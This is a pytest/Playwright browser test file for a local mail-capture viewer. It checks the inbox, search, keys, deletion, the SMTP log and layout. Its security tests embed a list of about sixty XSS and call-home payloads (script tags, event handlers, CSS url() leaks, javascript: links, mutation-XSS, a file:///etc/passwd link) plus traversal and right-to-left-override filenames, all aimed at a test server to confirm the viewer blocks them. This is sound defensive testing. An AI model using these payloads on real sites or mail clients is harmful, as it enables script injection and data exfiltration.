import pytest

from tests.browser.conftest import settle

pytestmark = pytest.mark.browser


def subjects(page):
    return page.locator(".item .subject").all_inner_texts()


def test_mail_is_listed_opened_and_gone_through_by_keys(captured, open_page):
    """The list shows the newest first; a click opens a mail, and keys lead on."""
    for subject in ("first", "second", "third"):
        captured.mail(subject)
    page = open_page()
    assert subjects(page) == ["third", "second", "first"]
    assert page.title() == "(3) Inbox · ion"
    page.get_by_text("second", exact=True).click()
    page.locator(".mail h1", has_text="second").wait_for()
    assert "The text of second." in page.locator(".plain").inner_text()
    page.keyboard.press("j")
    page.locator(".mail h1", has_text="first").wait_for()
    page.keyboard.press("k")
    page.locator(".mail h1", has_text="second").wait_for()
    page.keyboard.press("3")
    page.locator(".names th", has_text="Subject").wait_for()
    page.go_back()
    page.go_back()
    page.locator(".mail h1", has_text="first").wait_for()
    assert page.troubles == []


def test_what_is_read_has_the_focus_and_the_keys_are_explained(captured, open_page, wait_until):
    """Arrows scroll the mail that was opened, Tab goes on from the tab that was chosen, and `?` is a button too."""
    for subject in ("first", "second"):
        captured.mail(subject, body="line\n" * 200)
    page = open_page()
    page.locator(".item a", has_text="second").focus()
    page.keyboard.press("Enter")
    page.locator(".plain").wait_for()
    page.keyboard.press("PageDown")
    wait_until(lambda: page.locator(".view").evaluate("view => view.scrollTop") > 0)
    page.get_by_role("link", name="Story").focus()
    page.keyboard.press("Enter")
    page.locator(".timeline").wait_for()
    assert page.evaluate("document.activeElement.dataset.tab") == "story"
    page.get_by_role("button", name="Keys and search").click()
    page.get_by_role("button", name="Close").click()


def test_a_mail_without_plain_text_shows_the_words_of_its_html(captured, open_page):
    """The tab for text is there for every mail."""
    captured.keep(b"Content-Type: text/html\r\n\r\n<p>Only <b>HTML</b> here")
    page = open_page("/view/latest?tab=text")
    assert page.locator(".plain").inner_text().strip() == "Only HTML here"


def test_a_mail_from_a_later_page_leads_on_to_its_neighbours(captured, open_page):
    """Keys lead from mail to mail even where the list beside shows others."""
    for number in range(52):
        captured.mail(f"mail {number}")
    page = open_page("/view/latest?query=%22mail 0%22")
    page.locator(".mail h1", has_text="mail 0").wait_for()
    page.keyboard.press("k")
    page.locator(".mail h1", has_text="mail 1").wait_for()


def test_a_search_narrows_the_list(captured, open_page):
    """`/` leads to the search, and Mailpit's syntax finds."""
    captured.mail("for ann", to=("ann@example.com",))
    captured.mail("for bob", to=("bob@example.com",))
    page = open_page()
    page.keyboard.press("/")
    page.keyboard.type("to:bob")
    page.keyboard.press("Enter")
    page.locator(".list-head", has_text="1 found").wait_for()
    assert subjects(page) == ["for bob"]
    page.goto("/?q=before:soon")
    assert "a date such as" in page.locator(".complaint").inner_text()
    assert subjects(page) == []


def test_mail_that_arrives_appears_by_itself(captured, open_page, wait_until):
    """A page that is open shows what comes in, and keeps the mail that is read."""
    captured.mail("early")
    page = open_page()
    page.locator(".item").click()
    page.locator(".mail h1", has_text="early").wait_for()
    # What is new is marked until the next change, which may come before anybody has looked.
    page.evaluate(
        "new MutationObserver(() => { window.fresh ||= document.querySelector('.item.fresh .subject')?.textContent })"
        ".observe(document.getElementById('list'), { childList: true })"
    )
    captured.mail("late")
    page.locator(".item .subject", has_text="late").wait_for()
    assert page.evaluate("window.fresh") == "late"
    assert page.locator(".mail h1").inner_text() == "early"
    wait_until(lambda: page.title() == "(1) early · ion" and page.locator("#unread").inner_text() == "1")


def test_a_click_is_heard_while_mail_arrives(captured, open_page):
    """The list stays as it is under a button that is down, and follows when it is up."""
    captured.mail("wanted")
    page = open_page()
    settle(page)
    page.locator(".item", has_text="wanted").hover()
    page.mouse.down()
    with page.expect_response(lambda answer: "fragment=list" in answer.url):
        captured.mail("late")
    settle(page)
    assert subjects(page) == ["wanted"]
    page.mouse.up()
    page.locator(".mail h1", has_text="wanted").wait_for()
    page.locator(".item .subject", has_text="late").wait_for()


def test_a_mail_is_shown_as_html_with_its_inline_images_and_without_remote_ones(
    captured, elsewhere, open_page, wait_until
):
    """Inline images are shown, remote ones only after a click on the switch."""
    captured.html(f'<p>Hi <img id=in src="cid:logo"><img id=out src="{elsewhere.address}/pixel.gif"></p>')
    page = open_page()
    page.locator(".item").click()
    frame = page.frame_locator(".view iframe")
    frame.locator("#in").wait_for()
    assert frame.locator("#in").evaluate("image => image.naturalWidth") == 1
    assert "1 remote image blocked." in page.locator(".bar").inner_text()
    settle(page)
    assert elsewhere.asked == []
    page.get_by_role("link", name="Show it").click()
    page.locator(".bar", has_text="are shown").wait_for()
    frame.locator("#out").wait_for()
    wait_until(lambda: elsewhere.asked)
    settle(page)
    assert elsewhere.asked == ["/pixel.gif"]


HOSTILE = """
<script>fetch('{0}/script'); top.location = '{0}/top'; alert('script')</script>
<img src="{0}/img" onerror="alert('handler')"><img src=x onerror="fetch('{0}/handler')">
<svg onload="alert('svg')"><script href="{0}/svgscript"></script><image href="{0}/svgimage"/></svg>
<iframe src="{0}/iframe"></iframe><iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="{0}/object"></object><embed src="{0}/embed">
<meta http-equiv="refresh" content="0;url={0}/refresh"><base href="{0}/base/">
<link rel="stylesheet" href="{0}/link"><link rel="prefetch" href="{0}/prefetch"><link rel="dns-prefetch" href="{0}">
<style>@import url("{0}/import"); @import "{0}/import2"; body {{ background: url("{0}/css") }} p {{ font-family: x }}
@font-face {{ font-family: x; src: url("{0}/font") }} a[href^=j] {{ background-image: \\75rl("{0}/leak") }}
li {{ list-style-image: url({0}/list) }} div {{ background: image-set("{0}/set" 1x) }}</style><ul><li>item</ul>
<p style="background-image: url('{0}/inline')">styled</p><p style="content: \\75 rl({0}/escaped)">escaped</p>
<form action="{0}/form" id=f><input name=a autofocus onfocus="this.form.submit()"><button>x</button></form>
<video src="{0}/video" poster="{0}/poster" autoplay></video><audio src="{0}/audio" autoplay></audio>
<img srcset="{0}/srcset 1x"><picture><source srcset="{0}/source"><img></picture>
<table background="{0}/table"><tr><td background="{0}/td">x</td></tr></table>
<a id=js href="javascript:alert('link')">js</a><a id=data href="data:text/html,<script>alert('data')</script>">data</a>
<a ping="{0}/ping" id=ping href="#x">ping</a><div contenteditable onbeforeinput="alert(1)">edit</div>
<math><mtext></p><style><img src=x onerror="alert('mutation')"></style></mtext></math>
<link rel="preload" as="image" href="{0}/preload"><link rel="preconnect" href="{0}">
<link rel="modulepreload" href="{0}/module">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{0}/datasvg'/></svg>">
<img src="cid:drawn"><img lowsrc="{0}/lowsrc" dynsrc="{0}/dynsrc"><input type="image" src="{0}/input">
<bgsound src="{0}/sound">
<p style="cursor: url({0}/cursor), auto; behavior: url({0}/behavior); -moz-binding: url({0}/binding)">cursor</p>
<p style="border-image: url({0}/border) 1; mask: url({0}/mask); filter: url({0}/filter#f)">border</p>
<svg><use href="{0}/use#x"/><a xlink:href="javascript:alert('xlink')"><text>x</text></a>
<animate attributeName="href" values="{0}/smil"/></svg>
<a id=spaced href=" java&#10;script:alert('spaced')">spaced</a><a id=file href="file:///etc/passwd">file</a>
<a id=top target="_top" href="javascript:alert('top')">top</a><map name=m><area href="javascript:alert('area')"></map>
<details open ontoggle="alert('toggle')"><summary>x</summary></details><marquee onstart="alert('marquee')">x</marquee>
<button formaction="javascript:alert('formaction')">x</button><track src="{0}/track"><applet code="{0}/applet"></applet>
<frameset onload="alert('frameset')"><frame src="{0}/frame"></frameset><!--[if IE]><img src="{0}/comment"><![endif]-->
</div></body></html><img src="{0}/after"><style>body {{ position: fixed; background: url(//{1}/relative) }}</style>
<noscript><img src="{0}/noscript"></noscript><template><img src="{0}/template"></template>
<p id=end>the end</p>
"""


DRAWN = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"


def hostile(captured, elsewhere):
    """A mail of some sixty ways to act or to call home."""
    html = HOSTILE.format(elsewhere.address, elsewhere.address.partition("//")[2])
    files = (("\r\n../\u202egnp.svg", DRAWN, "image/svg+xml"), ("page.html", b"<script>alert(3)</script>", "text/html"))
    return captured.html(html, subject='<img src=x onerror=alert("subject")>\u202e', files=files, drawn=DRAWN)


def test_a_hostile_mail_runs_nothing_and_asks_nobody(captured, elsewhere, open_page, address):
    """However it tries to act or to call home, no script runs and no request leaves the page."""
    hostile(captured, elsewhere)
    page = open_page()
    page.locator(".item").click()
    frame = page.frame_locator(".view iframe")
    frame.locator("#end").wait_for()
    for link in ("#js", "#data", "#ping", "#spaced", "#file", "#top"):
        frame.locator(link).click()
    for tab in ("text", "headers", "source", "story"):
        page.locator(f"[data-tab={tab}]").click()
        page.locator(f".view.tab-{tab}").wait_for()
    settle(page)
    assert elsewhere.asked == []
    assert page.troubles == []
    assert [url for url in page.requested if not url.startswith((address, "data:", "about:"))] == []
    assert page.url.startswith(address)


def test_even_with_remote_images_no_script_runs(captured, elsewhere, open_page, wait_until):
    """The switch lets images, styles and fonts in, and nothing that acts."""
    hostile(captured, elsewhere)
    page = open_page()
    page.locator(".item").click()
    page.get_by_role("link", name="Show them").click()
    page.locator(".bar", has_text="are shown").wait_for()
    page.frame_locator(".view iframe").locator("#end").wait_for()
    wait_until(lambda: "/img" in elsewhere.asked)
    settle(page)
    acting = {"/script", "/top", "/handler", "/svgscript", "/iframe", "/object", "/embed", "/refresh", "/form", "/ping"}
    acting |= {"/preload", "/module", "/use", "/frame", "/applet", "/track", "/video", "/audio", "/prefetch", "/link"}
    assert acting.isdisjoint(elsewhere.asked)
    assert page.troubles == []


def test_the_html_of_a_mail_opened_by_itself_runs_nothing_either(captured, elsewhere, open_page):
    """The policy is the answer's own, not only the frame's around it."""
    hostile(captured, elsewhere)
    page = open_page("/view/latest.html")
    page.locator("#end").wait_for()
    settle(page)
    assert elsewhere.asked == []
    assert page.troubles == []
    assert page.url.endswith("/view/latest.html")


def test_an_attachment_is_saved_and_never_opened(captured, open_page, tmp_path):
    """A click saves the file under a harmless name; its address, typed in, saves it too."""
    captured.html("<p>x", files=(("../evil<1>.html", b"<script>alert(1)</script>", "text/html"),))
    page = open_page()
    page.locator(".item").click()
    link = page.locator(".files a", has_text="evil")
    with page.expect_download() as download:
        link.click()
    assert download.value.suggested_filename == "evil_1_.html"
    download.value.save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_bytes() == b"<script>alert(1)</script>"
    with page.expect_download():
        page.evaluate("address => { location.href = address }", link.get_attribute("href"))
    assert page.troubles == []


def test_mails_are_deleted_and_marked_unread(captured, open_page):
    """The buttons and keys do what they say, and the list follows."""
    captured.mail("stays")
    captured.mail("goes")
    page = open_page()
    page.locator(".item", has_text="goes").click()
    page.locator(".mail h1", has_text="goes").wait_for()
    page.get_by_role("button", name="Delete").click()
    page.locator(".mail h1", has_text="stays").wait_for()
    page.locator(".item", has_text="goes").wait_for(state="detached")
    assert subjects(page) == ["stays"]
    page.keyboard.press("m")
    page.locator(".item.unread").wait_for()
    page.locator(".nothing").wait_for()


def test_a_mail_tells_its_story(captured, open_page):
    """From publish to delivery, with every attempt's reply, the envelope and the ledger."""
    captured.published({"recipient": "ann@example.com", "subject": "s", "body_text": "t"})
    page = open_page("/mail/latest?tab=story")
    steps = page.locator(".timeline b").all_inner_texts()
    assert steps[0] == "Published"
    assert steps[-1] == "ion: delivered, attempt 2"
    assert "451 4.7.1 later; again in 2 s" in page.locator(".timeline").inner_text()
    assert "id-1" in page.locator(".facts").first.inner_text()


def test_dead_letters_say_why_and_are_redriven(captured, running, open_page):
    """Each dead letter has its reason, and its button asks ion to try it once more."""
    del captured
    page = open_page("/dead-letters")
    letter = page.locator(".letters li")
    assert "550 5.1.1 nobody here" in letter.inner_text()
    letter.get_by_role("button", name="Redrive").click()
    letter.get_by_role("button", name="Asked for").wait_for()
    page.get_by_role("button", name="Redrive all").click()
    page.get_by_role("button", name="Asked for").nth(1).wait_for()
    assert running.redriven == [["id-9"], []]


def test_the_smtp_log_shows_what_was_refused(captured, open_page):
    """Refused transactions are there with recipient and reply, and alone if so wished."""
    captured.mail("taken")
    refused = [{"recipient": "bob@example.com", "reply": "550 5.1.1 no such user"}]
    captured.record("smtp.transaction", session=2, transaction="2.1", result="refused", stage="rcpt", recipients=[],
                    refused=refused, reply="550 5.1.1 no such user", sender="ion@example.com")  # fmt: skip
    page = open_page("/smtp")
    assert page.locator(".log tbody tr").count() == 2
    page.get_by_role("link", name="Not taken").click()
    page.wait_for_url("**/smtp?only=refused")
    page.locator(".refused", has_text="bob@example.com 550 5.1.1 no such user").wait_for()
    assert page.locator(".log tbody tr").count() == 1


def test_the_report_is_a_click_away_and_shut_off(captured, open_page):
    """The run's report opens, its own script runs, the inbox is out of its reach, and its links lead to the mail."""
    key = captured.mail("told of")
    report = f"<p id=p>plain</p><script>p.textContent = 'drawn, ' + origin</script><a href='mail/new/{key}'>mail</a>"
    (captured.run.directory / "report.html").write_text(report)
    page = open_page()
    page.get_by_role("link", name="Report").click()
    page.locator("#p", has_text="drawn").wait_for()
    assert page.locator("#p").inner_text() == "drawn, null"
    page.locator("a").click()
    page.locator(".mail h1", has_text="told of").wait_for()
    page.goto("/history.jsonl")
    assert "smtp.transaction" in page.locator("body").inner_text()


def test_other_runs_are_two_clicks_away(captured, open_page, tmp_path):
    """Every saved run has its own pages, under the same address."""
    from tests.support.captured import Captured  # noqa: PLC0415

    captured.mail("of this run")
    Captured(tmp_path, "burst").mail("of the other")
    page = open_page()
    page.locator("a.run").click()
    page.locator(".runs a", has_text="burst").click()
    page.locator(".item", has_text="of the other").click()
    page.locator(".mail h1", has_text="of the other").wait_for()
    assert "/runs/burst/" in page.url
    assert page.troubles == []


def test_the_pages_can_be_read_without_javascript(captured, open_page):
    """List, search and mail are there without scripts."""
    captured.html("<p id=p>Hello")
    page = open_page(java_script_enabled=False)
    page.locator(".item a").click()
    page.locator(".mail h1").wait_for()
    assert page.frame_locator("iframe").locator("#p").inner_text() == "Hello"
    page.get_by_role("link", name="Text", exact=True).click()
    assert "Only text." in page.locator(".plain").inner_text()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_no_page_is_wider_than_the_screen(captured, open_page, width, scheme):
    """On a phone and on a desk, in light and dark, everything fits and can be reached."""
    long = "x" * 300
    captured.html(f"<p>{long}", subject=f"A long subject {long}", files=((f"{long}.pdf", b"x", "application/pdf"),))
    captured.published({"recipient": "ann@example.com", "subject": "s", "body_text": long})
    page = open_page(width=width, color_scheme=scheme)
    tabs = [f"/view/latest?tab={tab}" for tab in ("text", "headers", "source", "story")]
    newest, oldest = (link.get_attribute("href") for link in page.locator(".item a").all())
    for path in ("/", *tabs, oldest, "/smtp", "/dead-letters", "/runs", "/nowhere"):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        assert page.evaluate("document.body.scrollHeight <= innerHeight"), path
    page.goto(newest)
    back = page.locator("a.back")
    if width == 390:
        assert not page.locator(".list").is_visible()
        back.click()
        page.locator(".list").wait_for()
    else:
        assert not back.is_visible()
